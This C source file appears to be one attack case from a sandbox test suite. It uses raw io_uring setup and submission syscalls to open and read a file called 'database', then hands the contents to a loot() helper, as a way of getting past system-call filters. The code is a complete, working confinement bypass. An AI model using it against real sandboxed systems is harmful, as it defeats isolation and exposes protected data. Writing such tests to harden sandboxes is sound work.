/* Opens and reads the database by io_uring, whose requests pass by every filter of system calls. */
#include "../attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>

static struct io_uring_params params;
static unsigned char *submissions, *completions;
static struct io_uring_sqe* entries;

/* Hands one request in and yields its result. */
static int carry_out(int ring, const struct io_uring_sqe* request) {
    unsigned* tail = (unsigned*)(submissions + params.sq_off.tail);
    unsigned* head = (unsigned*)(completions + params.cq_off.head);
    entries[0] = *request;
    ((unsigned*)(submissions + params.sq_off.array))[*tail & (params.sq_entries - 1)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
        return -1;
    const struct io_uring_cqe* cqes = (const struct io_uring_cqe*)(completions + params.cq_off.cqes);
    const int result = cqes[*head & (params.cq_entries - 1)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

static void attack(void) {
    static char bytes[256];
    const int ring = (int)syscall(SYS_io_uring_setup, 4, &params);
    if (ring < 0)
        return;
    const int access = PROT_READ | PROT_WRITE;
    submissions = (unsigned char*)mmap(NULL, 8192, access, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    completions = (unsigned char*)mmap(NULL, 8192, access, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    entries = (struct io_uring_sqe*)mmap(NULL, 4096, access, MAP_SHARED, ring, IORING_OFF_SQES);

    struct io_uring_sqe request;
    memset(&request, 0, sizeof request);
    request.opcode = IORING_OP_OPENAT;
    request.fd = AT_FDCWD;
    request.addr = (uint64_t)(uintptr_t)target("database");
    const int fd = carry_out(ring, &request);

    memset(&request, 0, sizeof request);
    request.opcode = IORING_OP_READ;
    request.fd = fd;
    request.addr = (uint64_t)(uintptr_t)bytes;
    request.len = sizeof bytes;
    const int size = carry_out(ring, &request);
    if (size > 0)
        loot(bytes, (size_t)size);
}
